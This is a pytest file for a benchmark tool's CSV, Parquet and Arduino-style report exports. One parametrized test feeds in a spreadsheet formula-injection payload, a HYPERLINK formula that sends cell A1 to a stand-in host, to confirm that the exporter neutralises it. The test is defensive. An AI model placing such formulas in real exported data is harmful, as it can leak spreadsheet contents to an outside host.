"""CSV in both layouts, Parquet, and what firmware prints: the same cells, complete, as other tools read them."""

from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path
from typing import Any

import duckdb
import pytest
from board_cells import a_counted_cell

from weighbridge.compression.compressors import COMPRESSORS
from weighbridge.report import arduino, schemaless
from weighbridge.report.comma_separated import to_csv
from weighbridge.report.counted import at_clock
from weighbridge.report.document import (
    Cell,
    CountedCell,
    Interval,
    NetTime,
    PayloadInfo,
    Profiled,
    Relative,
    RunDocument,
    RunInfo,
)
from weighbridge.report.parquet import write_parquet

BEFORE = (
    "language,runner,target,codec,variant,format,library,library_version,operation,payload,fidelity,losses,bytes,"
    "gzip_bytes,gross_ns,gross_low_ns,gross_high_ns,net_ns,net_low_ns,net_high_ns,net_at_most,relative_to,relative,"
    "relative_low,relative_high,rank,rank_in_language,samples,processes,clock,settled,allocated_bytes,"
    "allocated_objects,peak_bytes"
)
FIRMWARE = "name,deserTimeJson,deserTimeMsgPack,serTimeJson,serTimeMsgPack,serSpaceJson,serSpaceMsgPack"


def net(nanoseconds: float) -> NetTime:
    return NetTime(estimate=nanoseconds, low=nanoseconds * 0.9, high=nanoseconds * 1.1, at_most=False)


def a_cell(**changes: Any) -> Cell:
    """A cell that has everything; ``changes`` are what a test cares about."""
    content: dict[str, Any] = {
        "cell": 7, "language": "python", "runner": "python", "target": "host", "codec": "orjson", "variant": "bytes",
        "format": "json", "library": "orjson", "library_version": "3.10", "released": datetime.date(2025, 2, 3),
        "operation": "encode", "payload": "orders", "fidelity": "lossy", "losses": ("float32", "int53"), "notes": (),
        "bytes": 48, "gzip_bytes": 40,
        "compressed_bytes": {name: 41 + number for number, name in enumerate(COMPRESSORS)},
        "policies": {}, "links": {}, "gross_ns": Interval(estimate=300.5, low=290, high=310), "net_ns": net(290),
        "first_call_ns": 900.0, "megabytes_per_second": 165.5,
        "relative": Relative(to="python/json", estimate=0.5, low=0.4, high=0.6), "rank": 2, "tied_with": (),
        "rank_in_language": 1, "samples": 30, "processes": 3, "preempted": 0.0, "settled": True, "clock": "cpu",
        "instructions": 1200.0, "allocated_bytes": 64.0, "allocated_objects": 2.0, "peak_bytes": 128.0,
        "wall_ns": 320.0,
        "profile": Profiled(
            differs_in="compiler", name="gcc-os", to="gcc-o3", estimate=1.25, low=1.2, high=1.3, verdict="slower"
        ),
    }  # fmt: skip
    return Cell(**content | changes)


def board_cells(payload: str, times: dict[str, float], sizes: dict[str, int], **changes: Any) -> list[Cell]:
    """JSON and MessagePack on a board: microseconds by format and operation, bytes by format."""
    plain = {"codec": "arduinojson", "variant": None, "fidelity": "exact", "losses": ()} | changes
    return [
        a_cell(payload=payload, format=form, operation=operation, net_ns=net(us * 1000), bytes=sizes[form], **plain)
        for (form, operation), us in ((name.split(), us) for name, us in times.items())
    ]


def a_document(*cells: Cell) -> RunDocument:
    return RunDocument.model_construct(cells=cells)


TIMES = {"json decode": 226.0, "msgpack decode": 180.0, "json encode": 290.0, "msgpack encode": 119.0}
SIZES = {"json": 48, "msgpack": 35}


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_columns_of_the_cells_layout_are_only_added_at_its_end() -> None:
    header = to_csv(a_document()).strip()
    assert header.startswith(BEFORE + ",cell,")


def test_no_column_of_complete_cells_is_empty() -> None:
    timed, counted = read(to_csv(a_document(a_cell()).model_copy(update={"counted": (a_counted_cell(),)})))
    assert all(timed[column] or counted[column] for column in timed)
    assert timed["losses"] == "float32 int53"
    assert (timed["unit"], timed["net_count"], counted["net_ns"]) == ("", "", "")
    assert [counted[one] for one in ("unit", "gross_count", "net_count", "relative_to", "relative_count")] == [
        "instructions", "1100", "1000", "mcu:cortex-m4/cjson", "0.5",
    ]  # fmt: skip
    assert (timed["gross_ns"], timed["net_low_ns"], timed["relative_high"]) == ("300.5", "261.0", "0.6")
    compressed = [timed[f"compressed_{name.replace('-', '_')}_bytes"] for name in COMPRESSORS]
    assert compressed == [str(41 + number) for number in range(len(COMPRESSORS))]
    assert (timed["cell"], timed["instructions"], timed["released"]) == ("7", "1200.0", "2025-02-03")
    assert timed["wall_ns"] == "320.0"


def test_what_was_not_measured_is_empty() -> None:
    (row,) = read(to_csv(a_document(a_cell(relative=None, compressed_bytes=None, released=None, losses=()))))
    (short,) = read(to_csv(a_document(a_cell(compressed_bytes={"gzip": 41}))))
    assert (short["compressed_gzip_bytes"], short["compressed_zstd_dict_bytes"]) == ("41", "")
    for name in ("relative", "relative_to", "relative_low", "compressed_zstd_bytes", "released", "losses"):
        assert row[name] == ""


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_no_text_is_a_formula_and_numbers_stay_numbers(begins: str) -> None:
    name = f'{begins}HYPERLINK("http://a.example/?"&A1,"x")'
    below = NetTime(estimate=-2.5, low=-4.0, high=-1.0, at_most=False)
    cell = a_cell(codec=name, variant=name, payload=name, library_version=name, losses=(name,), net_ns=below)
    for layout in ("cells", "schemaless"):
        for row in read(to_csv(a_document(cell.model_copy(update={"operation": "decode"})), layout=layout)):
            assert not any(value.startswith(begins) for value in row.values() if value and not _is_number(value))
            assert any(value.startswith(f"'{begins}") for value in row.values())
            assert "-2.5" in row.values() or "-0.0025" in row.values()
    (pair,) = read(to_csv(a_document(*board_cells(name, TIMES, SIZES)), layout="arduino"))
    assert (pair["name"], pair["deserTimeJson"]) == (f"'{name}", "226.0")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_one_library_on_one_board_gives_the_lines_of_the_firmware() -> None:
    again = {name: time / 4 for name, time in TIMES.items()}
    cells = [*board_cells("short int", TIMES, SIZES), *board_cells("short json", again, {"json": 27, "msgpack": 18})]
    lines = to_csv(a_document(*cells), layout="arduino").splitlines()
    assert lines == [FIRMWARE, "short int,226.0,180.0,290.0,119.0,48,35", "short json,56.5,45.0,72.5,29.75,27,18"]


def test_several_boards_and_libraries_are_named_and_the_fastest_stand_for_their_format() -> None:
    slow = {name: time * 2 for name, time in TIMES.items()}
    cells = [
        *board_cells("short int", slow, SIZES, codec="slow"),
        *board_cells("short int", TIMES, SIZES, codec="fast"),
        *board_cells("short int", {"json decode": 1.0, "msgpack decode": 1.0}, SIZES, codec="reader"),
        *board_cells("short int", dict.fromkeys(slow, 1.0), SIZES, codec="fast", variant="reuse"),
        *board_cells("short int", slow, SIZES, runner="c", target="uno"),
    ]
    first, second = read(to_csv(a_document(*cells), layout="arduino"))
    assert first["name"] == "short int (python: fast, fast)", "plain codecs that have both operations come first"
    assert (first["deserTimeJson"], first["serTimeMsgPack"]) == ("226.0", "119.0")
    assert second["name"] == "short int (c:uno: arduinojson, arduinojson)"
    assert second["serTimeMsgPack"] == "238.0"


def test_a_lossy_codec_stands_for_its_format_only_where_none_is_exact_and_is_named() -> None:
    lossy = dict.fromkeys(TIMES, 1.0)
    cells = board_cells("short int", lossy, SIZES, codec="quick", fidelity="lossy")
    (row,) = read(to_csv(a_document(*cells), layout="arduino"))
    assert row["name"] == "short int (python: lossy quick, lossy quick)"
    (row,) = read(to_csv(a_document(*cells, *board_cells("short int", TIMES, SIZES)), layout="arduino"))
    assert row["name"] == "short int (python: arduinojson, arduinojson)"


def test_what_has_no_counterpart_there_is_empty() -> None:
    tiny = a_cell(payload="nil", variant=None, fidelity="exact", losses=(), operation="decode",
                  net_ns=NetTime(estimate=0, low=None, high=3, at_most=True))  # fmt: skip
    other = a_cell(payload="nil", format="cbor")
    scan = a_cell(payload="elsewhere", operation="scan")
    assert to_csv(a_document(tiny, other, scan), layout="arduino").splitlines() == [FIRMWARE, "nil,,,,,,"]


def a_run(*rows: Cell | CountedCell) -> RunDocument:
    """A run of the firmware's first document, with what its console text is made of."""
    document = a_document(*(row for row in rows if isinstance(row, Cell)))
    payload = PayloadInfo.model_construct(payload="short int", json_bytes=48, excerpt='{"int1":0,"int2":2}')
    return document.model_copy(
        update={
            "counted": tuple(row for row in rows if isinstance(row, CountedCell)),
            "run": RunInfo.model_construct(payloads=(payload,), settings={}),
            "environment": {"runners": {"c:uno": {"title": "Uno"}, "mcu:cortex-m4": {"title": "Cortex-M4"}}},
        }
    )


def counted_pair(operation: str, json: int, msgpack: int) -> list[CountedCell]:
    """What an emulated board counts for JSON and MessagePack."""
    plain: dict[str, Any] = {"payload": "short int", "operation": operation, "estimated_ns": None}
    return [
        a_counted_cell(**plain, codec="cjson", format="json", net=json, bytes=48),
        a_counted_cell(**plain, codec="mpack", format="msgpack", net=msgpack, bytes=35),
    ]


def test_people_read_what_the_firmware_tells_them() -> None:
    document = a_run(*board_cells("short int", TIMES, SIZES, runner="c", target="uno"))
    assert arduino.to_text(document).splitlines() == [
        "Benchmark of (de)serialization of JSON and MessagePack on Uno",
        "",
        'Benchmarking "short int", length: 48byte, content: {"int1":0,"int2":2}',
        "Serialization results",
        "    MessagePack  time:     119us written:    35byte  (arduinojson 3.10)",
        "    Json         time:     290us written:    48byte  (arduinojson 3.10)",
        "  Serialization improvements over JSON",
        "      time: -58.97% size: -27.08%",
        "Deserialization results",
        "    MessagePack  time:     180us  (arduinojson 3.10)",
        "    Json         time:     226us  (arduinojson 3.10)",
        "  Deserialization improvements over JSON",
        "      time: -20.35%",
        "",
    ]


def test_of_an_emulated_board_they_read_counts_and_no_times() -> None:
    document = a_run(*counted_pair("encode", 2900, 1190), *counted_pair("decode", 2260, 1800))
    text = arduino.to_text(document)
    assert "on Cortex-M4\nEmulated: instructions were counted, and no time was measured.\n" in text
    assert "    MessagePack  instructions:      1190 written:    35byte  (mpack 1.1)\n" in text
    assert "      instructions: -58.97% size: -27.08%\n" in text
    assert "time:" not in text


def test_at_a_clock_they_read_estimated_times() -> None:
    document = at_clock(a_run(*counted_pair("encode", 2900, 1190)), 16e6)
    text = arduino.to_text(document)
    assert "instructions were counted. Times are estimates, at 16.0 MHz and one a tick.\n" in text
    assert "    Json         time:     181us written:    48byte  (cjson 1.1)\n" in text
    assert to_csv(document, layout="arduino").splitlines()[1] == "short int,,,181.25,74.375,48,35"


def test_what_people_cannot_be_told_is_left_out() -> None:
    json, _ = counted_pair("decode", 2260, 1800)
    lossy = json.model_copy(update={"fidelity": "lossy", "losses": ("float32", "int24")})
    text = arduino.to_text(a_run(lossy))
    assert "    MessagePack  not weighed\n" in text
    assert "(cjson 1.1, lossy: float32, int24)\n" in text
    assert "improvements" not in text
    assert "Serialization results" not in text
    assert "no codec of JSON or MessagePack was weighed" in arduino.to_text(a_run())


def test_the_layout_of_the_firmware_has_no_counts_in_the_place_of_times() -> None:
    with pytest.raises(arduino.NoTimes, match=r"mcu:cortex-m4 is emulated, .* as in --clock 16MHz"):
        to_csv(a_run(*counted_pair("encode", 2900, 1190)), layout="arduino")


def test_parquet_has_the_columns_of_the_csv_in_types_of_their_own(tmp_path: Path) -> None:
    bare = a_cell(cell=8, losses=(), relative=None, compressed_bytes=None, released=None, variant=None)
    document = a_document(a_cell(), bare)
    file = tmp_path / "o'clock.parquet"
    file.write_text("an older file")
    write_parquet(document, file)
    with duckdb.connect() as connection:
        relation = connection.read_parquet(str(file))
        names, kinds = relation.columns, {str(kind) for kind in relation.types}
        rows = [dict(zip(names, row, strict=True)) for row in relation.fetchall()]
    assert names == next(csv.reader(io.StringIO(to_csv(document))))
    assert kinds == {"VARCHAR", "VARCHAR[]", "BIGINT", "INTEGER", "DOUBLE", "BOOLEAN", "DATE"}
    assert rows[0]["losses"] == ["float32", "int53"]
    assert (rows[0]["net_ns"], rows[0]["settled"], rows[0]["released"]) == (290.0, True, datetime.date(2025, 2, 3))
    assert (rows[1]["losses"], rows[1]["relative"], rows[1]["variant"], rows[1]["released"]) == ([], None, None, None)


def test_a_run_without_cells_is_an_empty_table_of_the_same_columns(tmp_path: Path) -> None:
    write_parquet(a_document(), tmp_path / "empty.parquet")
    with duckdb.connect() as connection:
        relation = connection.read_parquet(str(tmp_path / "empty.parquet"))
        assert (relation.fetchall(), str(relation.types[relation.columns.index("losses")])) == ([], "VARCHAR[]")


def test_a_parquet_file_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    (tmp_path / "no-folder").touch()
    with pytest.raises(OSError, match=r"Not a directory.*no-folder/run\.parquet"):
        write_parquet(a_document(), tmp_path / "no-folder" / "run.parquet")


def test_the_tables_of_schemaless_benchmarks_have_microseconds_and_bounds() -> None:
    tiny = NetTime(estimate=2.0, low=-4.0, high=8.0, at_most=True)
    visited = a_cell(
        payload="short int", operation="scan", variant=None, gross_ns=Interval(estimate=400, low=390, high=410)
    )
    document = a_run(visited, a_cell(payload="short int", operation="decode", net_ns=tiny))
    text = schemaless.to_text(document)
    assert "| orjson (3.10) | orjson | json | 0.290 |\n" in text
    assert "| orjson (3.10) [bytes] | json | ≤ 0.00800 | 0.300 | 1.02 | lossy: float32, int53 |\n" in text
    decoded, scanned = read(to_csv(document, layout="schemaless"))
    assert (decoded["net"], scanned["net"], scanned["gross"], scanned["tare"]) == (
        "",
        "0.29",
        "0.4",
        "0.11000000000000004",
    )
    assert scanned["unit"] == "us"
